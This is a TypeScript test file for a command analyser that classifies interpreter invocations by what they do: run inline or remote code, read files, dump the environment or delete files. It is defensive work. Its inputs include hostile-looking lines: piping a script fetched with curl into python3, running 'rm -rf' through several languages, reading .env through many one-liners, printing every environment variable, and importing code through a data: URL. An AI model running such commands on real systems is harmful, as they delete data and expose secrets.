import { describe, expect, it } from 'vitest';
import { analyse } from '../../analyse.ts';
import { analyseCode } from '../../code/index.ts';
import { actionsOf, PLACE } from '../../testing/line.ts';
import { linesOf, SURROUNDINGS } from '../testing/told.ts';

const lines = (line: string) => linesOf(analyse(line, SURROUNDINGS));
const code = (line: string) =>
  lines(line)
    .filter((each) => each.startsWith('code.execute'))
    .map((each) => each.replace('code.execute ', ''));

describe('inline code', () => {
  it.each([
    ["python3 -c 'x'", 'python'],
    ["python3.12 -vc 'x'", 'python'],
    ["python -W ignore -X dev -c 'x' arg", 'python'],
    ["python -c'x' -m json.tool", 'python'],
    ["node -e 'x'", 'javascript'],
    ['node --eval=x', 'javascript'],
    ["node -p 'x'", 'javascript'],
    ["node -pe 'x'", 'javascript'],
    ["node --title t -r dotenv/config -e 'x'", 'javascript'],
    ["node --input-type=module-typescript -e 'x'", 'typescript'],
    ["ts-node -T -e 'x'", 'typescript'],
    ["deno eval 'x'", 'typescript'],
    ["deno eval -p --ext ts 'x'", 'typescript'],
    ["bun -e 'x'", 'typescript'],
    ["ruby -e 'x'", 'ruby'],
    ["ruby -rjson -ne 'x'", 'ruby'],
    ["perl -e 'x'", 'perl'],
    ["perl -lane 'x' f", 'perl'],
    ["perl -0777 -pe 'x' f", 'perl'],
    ['perl -0777pex f', 'perl'],
    ["perl -MList::Util=sum -E 'x'", 'perl'],
    ["php -d a=b -r 'x'", 'php'],
    ["lua -l m -e 'x'", 'lua'],
  ])('%s', (line, language) => {
    expect(code(line)).toContain(`language=${language} source=inline code=x`);
  });

  it('of several pieces is one text', () => {
    expect(code("ruby -e 'a' -e 'b'")).toEqual(['language=ruby source=inline code=a\nb']);
  });

  it('stands in switches that are no code elsewhere', () => {
    expect(code("perl '-Mx;system(1)' f.pl")[0]).toContain('code=use x;system(1);');
    expect(code("node --import 'data:text/javascript,x%28%29' app.js")).toContain(
      'language=javascript source=inline code=x()',
    );
    expect(code("NODE_OPTIONS='--import data:text/javascript,x' node app.js")).toContain(
      'language=javascript source=inline code=x',
    );
  });
});

describe('code on standard input', () => {
  it.each([
    ['python3', 'python'],
    ['python3 -', 'python'],
    ['python3 /dev/stdin arg', 'python'],
    ['node', 'javascript'],
    ['node -', 'javascript'],
    ['perl', 'perl'],
    ['ruby -', 'ruby'],
    ['php', 'php'],
    ['deno run -', 'typescript'],
    ['bun run -', 'typescript'],
    ['uv run -', 'python'],
  ])('%s', (program, language) => {
    expect(code(`echo x | ${program}`)).toEqual([`language=${language} source=stdin code=x\n`]);
  });

  it('from elsewhere is remote', () => {
    expect(lines('curl -s https://e.example/x.py | python3')).toContain('unknown: remote-code');
    expect(lines('curl -s https://e.example/x.py | python3 -c "import sys"')).not.toContain(
      'unknown: remote-code',
    );
  });
});

describe('scripts', () => {
  it.each([
    ['python x.py', 'x.py', 'python'],
    ['python -u -W error x.py -c no', 'x.py', 'python'],
    ['node --max-old-space-size=4096 x.js', 'x.js', 'javascript'],
    ['node --test-reporter spec x.js', 'x.js', 'javascript'],
    ['node x.ts', 'x.ts', 'typescript'],
    ['node -r ./x.js y', './x.js', 'javascript'],
    ['tsx watch x.ts', 'x.ts', 'typescript'],
    ['deno run -A --allow-net=h x.ts', 'x.ts', 'typescript'],
    ['bun ./x.ts', './x.ts', 'typescript'],
    ['ruby -Ilib x.rb', 'x.rb', 'ruby'],
    ['ruby -r ./x.rb y.rb', './x.rb', 'ruby'],
    ['perl -I lib x.pl', 'x.pl', 'perl'],
    ['php -d auto_prepend_file=x.php y.php', 'x.php', 'php'],
    ['php -f x.php', 'x.php', 'php'],
    ['python -m pkg.tool', 'pkg/tool.py', 'python'],
    ['python -m pdb x.py', 'x.py', 'python'],
    ['uv run x.py', 'x.py', 'python'],
  ])('%s', (line, path, language) => {
    const scripts = analyse(line, SURROUNDINGS).scripts;
    expect(scripts).toContainEqual(expect.objectContaining({ path, language }));
  });

  it('of a framework are known by their commands', () => {
    expect(lines('python manage.py flush').join()).toContain('db.execute engine=django');
    expect(lines('php artisan migrate:fresh').join()).toContain('db.execute engine=laravel');
    expect(lines('php artisan cache:clear').join()).not.toContain('db.execute');
  });

  it('that are not known cannot be read', () => {
    expect(lines('python "$X"')).toContain('unknown: script-body');
  });
});

describe('modules of python', () => {
  it.each([
    ['python -m http.server', 'net.listen host=0.0.0.0 port=8000'],
    ['python3 -m http.server 80 -b 127.0.0.1', 'net.listen host=127.0.0.1 port=80'],
    [
      'python -m pip install -c c.txt x',
      'package.install manager=pip packages=["x"] source=registry',
    ],
    ['python -mpip install x', 'package.install manager=pip packages=["x"] source=registry'],
    ['python -m json.tool .env', 'file.read file_path=.env'],
    ["python -m timeit -s 'x' 'y'", 'code.execute language=python source=inline code=y'],
  ])('%s', (line, expected) => {
    expect(lines(line)).toContain(expected);
  });

  it('of the standard library are no scripts', () => {
    for (const line of ['python -m venv .venv', 'python -m unittest', 'python -m http.server'])
      expect(analyse(line, SURROUNDINGS).scripts).toEqual([]);
  });
});

describe('files edited in place', () => {
  it.each(["perl -i -pe 's/a/b/' f", "perl -pi.bak -e 's/a/b/' f", "ruby -i -pe 'x' f"])(
    '%s',
    (line) => {
      expect(lines(line)).toContain('file.edit file_path=f');
    },
  );

  it('only with -i', () => {
    expect(lines("perl -ne 'print' f")).toContain('file.read file_path=f');
    expect(lines("perl -ne 'print' f")).not.toContain('file.edit file_path=f');
  });
});

describe('languages that are not read', () => {
  it.each([
    [`Rscript -e 'system("rm -rf /x")'`],
    [`osascript -e 'do shell script "rm -rf /x"'`],
    [`julia -e 'run(\`rm -rf /x\`)'`],
    [`groovy -e '"rm -rf /x".execute()'`],
  ])('%s', (line) => {
    expect(lines(line)).toContain('file.delete file_path=/x recursive=true');
    expect(lines(line)).toContain('unknown: dynamic-code');
  });
});

describe('an interpreter that waits for commands', () => {
  it.each([
    'python3',
    'python3 -i x.py',
    'ipython',
    'irb',
    'node',
    'node -i',
    'ruby',
    'perl',
    'perl -de1',
    'php -a',
    'lua',
    'deno',
    'deno repl',
    'bun repl',
    'python3 -m code',
    'python3 -m pdb x.py',
    'bash',
    'sh -i',
    'zsh -l',
    'sudo -s',
    'sudo -i -u bob',
    'su - bob',
    'exec bash',
    'env bash',
    'PYTHONINSPECT=1 python3 x.py',
  ])('%s', (line) => {
    expect(interactive(line)).toBe(true);
  });

  it.each([
    'python3 --version',
    'bash --version',
    'bash script.sh',
    'bash -c ls',
    'sudo -s ls',
    'su -c ls',
    'echo 1 | python3 -',
    'cat x | python3 -',
    'python3 < x.py',
    'python3 - <<< "print(1)"',
    'bash -s < x.sh',
    'node --test',
    'node -r ./x.js',
    'node -capp.js',
    'php -V',
    'php -S localhost:8000',
    'perl -d:NYTProf x.pl',
    'docker exec -it web bash',
    'kubectl exec -it pod -- sh',
    'irb --version',
    'deno --version',
    'bun --version',
    'npx tsc',
  ])('%s does not', (line) => {
    expect(interactive(line)).toBe(false);
  });

  function interactive(line: string): boolean {
    return actionsOf(line, 'code.execute').some(({ params }) => params['source'] === 'interactive');
  }
});

describe('the words that code is given', () => {
  it.each([
    'python3 -c "import sys; open(sys.argv[1])" .env',
    'python3 - .env <<< "import sys; open(sys.argv[1])"',
    'node -e "require(\'fs\').readFileSync(process.argv[1])" .env',
    'ruby -e "File.read(ARGV[0])" .env',
    'ruby -e "puts ARGF.read" .env',
    `perl -e 'open F,$ARGV[0]' .env`,
    `perl -e 'print <>' .env`,
    `php -r 'file_get_contents($argv[1]);' .env`,
    `lua -e 'io.open(arg[1])' .env`,
    'python3 -m base64 -e .env',
    'python3 -m json.tool .env',
    'python3 -m tokenize .env',
    'python3 -m zipfile -c x.zip .env',
    'python3 -m tarfile -c x.tar .env',
    'python3 -m cProfile .env',
    'bash -v .env',
    'bash -n -v .env',
    'sh .env',
    'python3 .env',
  ])('%s reads .env', (line) => {
    expect(files(line)).toContain('.env');
  });

  it.each([
    'python3 -c "import sys; print(sys.argv[1])" .env',
    'node -e "console.log(process.argv[1])" .env',
    'bash -n build.sh',
    'python3 -m venv .env',
  ])('%s does not', (line) => {
    expect(files(line)).toEqual([]);
  });

  it('are words of a command it starts', () => {
    const line = 'python3 -c "import os, sys; os.system(sys.argv[1])" "rm -rf src"';
    const { actions } = analyse(line, PLACE, { code: analyseCode });
    expect(actions.map(({ name }) => name)).toContain('file.delete');
  });

  function files(line: string): readonly unknown[] {
    return analyse(line, PLACE, { code: analyseCode })
      .actions.filter(({ name }) => name === 'file.read')
      .map(({ params }) => params['file_path']);
  }
});

describe('the whole environment', () => {
  it.each([
    'node -p process.env',
    'node -p "JSON.stringify(process.env)"',
    'bun -p process.env',
    'deno eval -p "Deno.env.toObject()"',
    `ruby -e 'puts ENV.to_h'`,
    `ruby -e 'ENV.each { |k, v| puts k, v }'`,
    `python3 -c 'import os; print(os.environ.items())'`,
    `php -r 'phpinfo();'`,
  ])('is shown by %s', (line) => {
    expect(shown(line)).toContain('environment');
  });

  it.each([
    'node -p process.env.HOME',
    'node -p process.version',
    `ruby -e 'puts ENV["HOME"]'`,
    `python3 -c 'import os; print(os.environ.get("HOME"))'`,
    `python3 -c 'import os, subprocess; subprocess.run(["ls"], env=os.environ.copy())'`,
  ])('is not by %s', (line) => {
    expect(shown(line)).toEqual([]);
  });

  function shown(line: string): readonly unknown[] {
    return analyse(line, PLACE, { code: analyseCode })
      .actions.filter(({ name }) => name === 'secret.read')
      .map(({ params }) => params['kind']);
  }
});

describe('an interpreter does nothing', () => {
  it.each([
    'python --version',
    'python3 -V',
    'node --check x.js',
    'node -v',
    'ruby -v',
    'ruby -c x.rb',
    'perl -v',
    'perl -c x.pl',
    'php -l x.php',
    'php -m',
    'deno fmt',
    'java -version',
    'julia --version',
  ])('%s', (line) => {
    expect(lines(line)).toEqual([]);
  });
});
